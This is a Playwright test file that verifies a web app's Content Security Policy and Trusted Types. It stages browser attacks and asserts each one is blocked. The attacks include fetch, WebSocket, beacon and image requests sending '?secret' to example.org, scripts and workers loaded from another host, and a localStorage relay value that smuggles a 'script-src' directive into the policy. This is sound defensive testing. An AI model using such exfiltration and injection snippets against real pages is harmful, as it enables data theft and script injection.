"""What the pages forbid themselves: other hosts, texts that become scripts, markup past Python."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page
from tools.build import ROOT
from tools.inside import BOOTED
from tools.serve import Site
from tools.site import npm, pins
from tools.site.policy import RELAYS

RECORD = """
window.violations = [];
document.addEventListener("securitypolicyviolation",
  ({effectiveDirective}) => violations.push(effectiveDirective));
"""

# What an attacker would try, each a function that throws or is told of as a violation.
ATTACKS = {
    "a text as a script": ("() => eval('1')", "require-trusted-types-for"),
    "a text as a function": ("() => Function('return 1')()", "require-trusted-types-for"),
    "a timer of text": ("() => setTimeout('1', 0)", "require-trusted-types-for"),
    "markup past Python": (
        "() => { document.getElementById('app').innerHTML = '<b>hi</b>'; }",
        "require-trusted-types-for",
    ),
    "a script of another host": (
        "() => { document.createElement('script').src = 'https://example.org/x.js'; }",
        "require-trusted-types-for",
    ),
    "a worker of another host": (
        "() => new Worker('https://example.org/x.js')",
        "require-trusted-types-for",
    ),
    "a policy of one's own": (
        "() => trustedTypes.createPolicy('mine', {createHTML: (it) => it})",
        "trusted-types",
    ),
    "our policy once more": (
        "() => trustedTypes.createPolicy('brushpass-page', {createHTML: (it) => it})",
        "trusted-types",
    ),
    "a module of another host": ("() => import('https://example.org/x.js')", "script-src-elem"),
    "a word to another host": ("() => fetch('https://example.org/?secret')", "connect-src"),
    "a socket to a host that nobody chose": (
        "() => new WebSocket('wss://example.org/?secret')",
        "connect-src",
    ),
    "a socket on one's own machine": (
        "() => new WebSocket('ws://127.0.0.1:9/?secret')",
        "connect-src",
    ),
    "a beacon": ("() => navigator.sendBeacon('https://example.org/')", "connect-src"),
    "a picture of another host": (
        "() => { new Image().src = 'https://example.org/?secret'; }",
        "img-src",
    ),
    "a style in the page": (
        "() => { document.head.append(document.createElement('style')); "
        "document.head.lastChild.append('b { color: red }'); }",
        "style-src-elem",
    ),
    "a frame of another host": (
        "() => { const it = document.createElement('iframe'); it.src = 'https://example.org/'; "
        "document.body.append(it); }",
        "frame-src",
    ),
}


@pytest.fixture(scope="module")
def booted(browser: Browser, site: Site) -> Iterator[Page]:
    page = browser.new_context(service_workers="block").new_page()
    page.add_init_script(RECORD)
    page.goto(f"{site.url}#codenames")
    page.wait_for_function(BOOTED, timeout=90_000)
    yield page
    page.context.close()


def test_a_boot_violates_nothing(booted: Page) -> None:
    assert booted.evaluate("violations") == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_blocked(booted: Page, attack: str) -> None:
    code, directive = ATTACKS[attack]
    booted.evaluate(RECORD.splitlines()[1])
    # In a task of its own: what DevTools run may do more than the page.
    later = f"setTimeout(async () => {{ try {{ await ({code})(); }} catch {{}} }})"
    booted.evaluate(f"() => {{ {later}; }}")
    booted.wait_for_function("() => violations.length")
    assert set(booted.evaluate("violations")) == {directive}


CHOSEN = """
localStorage.setItem("brushpass.relays",
  "ws://127.0.0.1:9/a stun:x wss://a.example;script-src%20* 'unsafe-inline' wss://b.example,c");
"""


def test_relays_that_a_person_has_chosen_may_be_reached_and_nothing_else(
    browser: Browser, site: Site
) -> None:
    page = browser.new_context(service_workers="block").new_page()
    page.add_init_script(CHOSEN)
    page.add_init_script(RECORD)
    page.goto(site.url)
    tags = page.locator('meta[http-equiv="Content-Security-Policy"]')
    usual = " ".join(RELAYS)
    assert tags.nth(1).get_attribute("content") == f"connect-src 'self' {usual} ws://127.0.0.1:9"
    attempts = ["ws://127.0.0.1:9/b", "ws://127.0.0.1:10/", "wss://a.example/"]
    for address in attempts:
        page.evaluate(f"() => {{ setTimeout(() => {{ new WebSocket('{address}'); }}); }}")
    page.wait_for_function("() => violations.length >= 2")
    assert page.evaluate("violations") == ["connect-src", "connect-src"]
    page.context.close()


def test_every_page_has_a_policy_before_anything_else(site_folder: Path) -> None:
    for path in site_folder.rglob("*.html"):
        head = path.read_text().partition("<head>")[2]
        first, second = re.findall("<[^>]+>", head)[:2]
        assert first == '<meta charset="utf-8">', path
        assert second.startswith('<meta http-equiv="Content-Security-Policy"'), path


def test_nothing_is_built_from_what_was_not_pinned(tmp_path: Path) -> None:
    modules = npm.ensure(ROOT)
    files = pins.foreign(modules)
    pins.check(files, modules)
    with pytest.raises(SystemExit, match=r"runtime/pyodide\.asm\.wasm"):
        pins.check(files | {"runtime/pyodide.asm.wasm": b"\0asm"}, modules)
    with pytest.raises(SystemExit, match=r"runtime/stranger\.js"):
        pins.check(files | {"runtime/stranger.js": b""}, modules)


def test_messages_are_taken_only_from_where_they_should_come() -> None:
    """Every script that listens to messages checks where they come from."""
    scripts = [path for path in (ROOT / "assets").rglob("*.*js") if path.suffix in (".js", ".mjs")]
    for path in scripts:
        code = path.read_text()
        if re.search(r'addEventListener\(\s*"message"', code):
            assert re.search(r"\b(source|origin)\b", code), path.name
